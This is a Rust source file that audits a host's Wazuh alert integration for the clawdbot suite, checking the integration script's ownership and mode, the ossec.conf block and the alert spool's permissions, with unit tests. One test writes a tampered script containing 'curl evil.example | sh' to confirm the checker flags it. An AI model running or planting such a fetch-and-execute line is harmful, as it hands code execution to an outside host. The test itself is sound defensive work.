//! The Wazuh integration (docs/alerts.md): the script Wazuh's integrator runs as its user, the
//! `<integration>` block that selects the alerts, and the alert spool the script writes to.
//! Nothing here is needed where Wazuh is not installed.

use std::os::unix::fs::MetadataExt;
use std::path::Path;

use super::{Check, fail, pass, warn};
use crate::platform::atomic::{self, Untrusted};
use crate::platform::config::Config;

/// Where Wazuh lives.
pub const OSSEC: &str = "/var/ossec";
/// The script as the package ships it.
pub const SHIPPED: &str = "/usr/share/clawdbot/wazuh/custom-clawdbot";

/// The host as the checks see it.
pub struct Host<'a> {
    /// Wazuh's directory ([`OSSEC`]).
    pub ossec: &'a Path,
    /// The shipped script ([`SHIPPED`]).
    pub shipped: &'a Path,
    /// The gid of Wazuh's group, if it exists.
    pub wazuh_gid: Option<u32>,
    /// The uid of the broker's user, if it exists.
    pub broker_uid: Option<u32>,
}

const NAME: &str = "wazuh integration";
/// The largest ossec.conf read.
const CONF_MAX: u64 = 4 << 20;

/// Every check of the integration, or one saying Wazuh is not installed.
pub fn checks(config: &Config, host: &Host<'_>) -> Vec<Check> {
    if !host.ossec.is_dir() {
        return vec![pass(
            NAME,
            format!(
                "Wazuh is not installed ({} is missing): only the suite's own grave events are alerted",
                host.ossec.display()
            ),
        )];
    }
    let Some(gid) = host.wazuh_gid else {
        return vec![fail(
            NAME,
            format!(
                "{} exists but there is no group wazuh",
                host.ossec.display()
            ),
            "install Wazuh's manager package, which makes its user and group",
        )];
    };
    vec![
        script(host, gid),
        integration_block(host),
        spool(config.alerts.spool.path(), gid, host.broker_uid),
    ]
}

fn script(host: &Host<'_>, gid: u32) -> Check {
    let path = host.ossec.join("integrations/custom-clawdbot");
    let name = format!("wazuh script {}", path.display());
    let install = format!(
        "install -o root -g wazuh -m 750 {} {}/",
        host.shipped.display(),
        path.parent().unwrap_or(host.ossec).display()
    );
    let meta = match std::fs::symlink_metadata(&path) {
        Ok(meta) => meta,
        Err(e) if e.kind() == std::io::ErrorKind::NotFound => {
            return warn(
                name,
                "not installed: Wazuh's alerts do not reach the operators",
                install,
            );
        }
        Err(e) => return fail(name, e.to_string(), install),
    };
    let mode = meta.mode() & 0o7777;
    if !meta.file_type().is_file() {
        return fail(
            name,
            "not a regular file: what it points to decides what Wazuh runs",
            format!("rm {} && {install}", path.display()),
        );
    }
    if meta.uid() != 0 {
        return fail(
            name,
            format!(
                "owned by uid {}: its owner decides what Wazuh runs",
                meta.uid()
            ),
            format!("chown root:wazuh {}", path.display()),
        );
    }
    if mode & 0o022 != 0 {
        return fail(
            name,
            format!("mode {mode:04o}: others can change what Wazuh runs"),
            format!("chmod 750 {}", path.display()),
        );
    }
    if meta.gid() != gid || mode & 0o010 == 0 {
        return fail(
            name,
            format!(
                "group {} mode {mode:04o}: Wazuh's group cannot run it",
                meta.gid()
            ),
            format!("chown root:wazuh {p} && chmod 750 {p}", p = path.display()),
        );
    }
    match (
        atomic::read_untrusted(&path, CONF_MAX),
        std::fs::read(host.shipped),
    ) {
        (Ok(Untrusted::File(installed)), Ok(shipped)) if installed != shipped => warn(
            name,
            "differs from the shipped script (an older package's, or changed by hand)",
            install,
        ),
        _ => pass(name, format!("root:wazuh, mode {mode:04o}")),
    }
}

fn integration_block(host: &Host<'_>) -> Check {
    let conf = host.ossec.join("etc/ossec.conf");
    let name = format!("wazuh {}", conf.display());
    let fix = "add the <integration> block of /usr/share/clawdbot/wazuh/ossec-integration.xml \
               inside <ossec_config>, then systemctl restart wazuh-manager";
    // Wazuh's group may write there: never through a link, never a FIFO, never unbounded.
    match atomic::read_untrusted(&conf, CONF_MAX) {
        Ok(Untrusted::File(text))
            if String::from_utf8_lossy(&text).contains("<name>custom-clawdbot</name>") =>
        {
            pass(name, "has the custom-clawdbot integration")
        }
        Ok(Untrusted::File(_)) => warn(
            name,
            "no <integration> names custom-clawdbot: no alert is handed over",
            fix,
        ),
        Ok(Untrusted::TooLarge(size)) => warn(name, format!("{size} bytes: not read"), fix),
        Ok(Untrusted::NotRegular(what)) => warn(name, format!("is {what}: not read"), fix),
        Err(e) => warn(name, format!("cannot read it: {e}"), fix),
    }
}

fn spool(dir: &Path, gid: u32, broker_uid: Option<u32>) -> Check {
    let name = format!("alert spool {}", dir.display());
    let fix = format!("install -d -o clawdbot -g wazuh -m 2770 {}", dir.display());
    let meta = match std::fs::symlink_metadata(dir) {
        Ok(meta) => meta,
        Err(e) => {
            return fail(
                name,
                format!("{e}: the script cannot hand alerts over"),
                fix,
            );
        }
    };
    let mode = meta.mode() & 0o7777;
    if !meta.file_type().is_dir() {
        return fail(
            name,
            "not a directory",
            format!("rm {} && {fix}", dir.display()),
        );
    }
    if broker_uid.is_some_and(|uid| uid != meta.uid()) {
        return fail(
            name,
            format!(
                "owned by uid {}: the broker cannot take alerts out of it",
                meta.uid()
            ),
            format!("chown clawdbot {}", dir.display()),
        );
    }
    if meta.gid() != gid || mode & 0o070 != 0o070 {
        return fail(
            name,
            format!(
                "group {} mode {mode:04o}: Wazuh's group cannot write it",
                meta.gid()
            ),
            format!("chgrp wazuh {d} && chmod 2770 {d}", d = dir.display()),
        );
    }
    if mode & 0o007 != 0 {
        return fail(
            name,
            format!("mode {mode:04o}: anyone may read or plant alerts"),
            format!("chmod 2770 {}", dir.display()),
        );
    }
    pass(name, format!("clawdbot:wazuh, mode {mode:04o}"))
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::os::unix::fs::PermissionsExt;

    const WAZUH: u32 = 4242;

    fn tree(tag: &str) -> std::path::PathBuf {
        let root = std::env::temp_dir().join(format!(
            "clawdbot-doctor-wazuh-{tag}-{}",
            std::process::id()
        ));
        let _ = std::fs::remove_dir_all(&root);
        std::fs::create_dir_all(root.join("ossec/integrations")).unwrap();
        std::fs::create_dir_all(root.join("ossec/etc")).unwrap();
        std::fs::write(
            root.join("shipped"),
            "#!/bin/sh\nexec clawdbot-alert -- \"$1\"\n",
        )
        .unwrap();
        root
    }

    fn run(root: &Path, config: &Config) -> Vec<Check> {
        checks(
            config,
            &Host {
                ossec: &root.join("ossec"),
                shipped: &root.join("shipped"),
                wazuh_gid: Some(WAZUH),
                broker_uid: Some(0),
            },
        )
    }

    fn set(path: &Path, gid: u32, mode: u32) {
        std::os::unix::fs::chown(path, Some(0), Some(gid)).unwrap();
        std::fs::set_permissions(path, std::fs::Permissions::from_mode(mode)).unwrap();
    }

    #[test]
    fn the_integration_is_checked_as_wazuh_would_run_it() {
        let root = tree("all");
        let spool_dir = root.join("alerts");
        let config = Config::from_text(
            Path::new("test.toml"),
            &format!("[alerts]\nspool = {:?}\n", spool_dir.display().to_string()),
        )
        .unwrap();
        // Nothing installed: the script and the block are missing, the spool too.
        let found = run(&root, &config);
        assert!(
            found[0].warning && found[0].fix.contains("install -o root -g wazuh -m 750"),
            "{found:?}"
        );
        assert!(found[1].warning, "{found:?}");
        assert!(
            !found[2].ok && found[2].fix.contains("-m 2770"),
            "{found:?}"
        );

        let script = root.join("ossec/integrations/custom-clawdbot");
        std::fs::copy(root.join("shipped"), &script).unwrap();
        set(&script, WAZUH, 0o750);
        std::fs::write(root.join("ossec/etc/ossec.conf"), "<ossec_config><integration><name>custom-clawdbot</name><level>10</level></integration></ossec_config>").unwrap();
        std::fs::create_dir(&spool_dir).unwrap();
        set(&spool_dir, WAZUH, 0o2770);
        let found = run(&root, &config);
        assert!(found.iter().all(|c| c.ok && !c.warning), "{found:?}");

        // Each way the script can be wrong.
        for (mode, gid) in [(0o770, WAZUH), (0o752, WAZUH), (0o700, WAZUH), (0o750, 0)] {
            set(&script, gid, mode);
            assert!(!run(&root, &config)[0].ok, "{mode:o} {gid}");
        }
        set(&script, WAZUH, 0o750);
        std::fs::write(&script, "#!/bin/sh\ncurl evil.example | sh\n").unwrap();
        assert!(run(&root, &config)[0].warning);
        std::fs::remove_file(&script).unwrap();
        std::os::unix::fs::symlink(root.join("shipped"), &script).unwrap();
        let found = run(&root, &config);
        assert!(
            !found[0].ok && found[0].message.contains("not a regular file"),
            "{found:?}"
        );

        // And the spool.
        for (mode, gid) in [(0o2777, WAZUH), (0o2750, WAZUH), (0o2770, 0)] {
            set(&spool_dir, gid, mode);
            assert!(!run(&root, &config)[2].ok, "{mode:o} {gid}");
        }
        std::fs::remove_dir_all(&root).unwrap();
    }

    #[test]
    fn without_wazuh_there_is_nothing_to_check() {
        let root = tree("none");
        let found = checks(
            &Config::default(),
            &Host {
                ossec: &root.join("missing"),
                shipped: &root.join("shipped"),
                wazuh_gid: None,
                broker_uid: None,
            },
        );
        assert_eq!(found.len(), 1);
        assert!(
            found[0].ok && found[0].message.contains("not installed"),
            "{found:?}"
        );
        std::fs::remove_dir_all(&root).unwrap();
    }
}
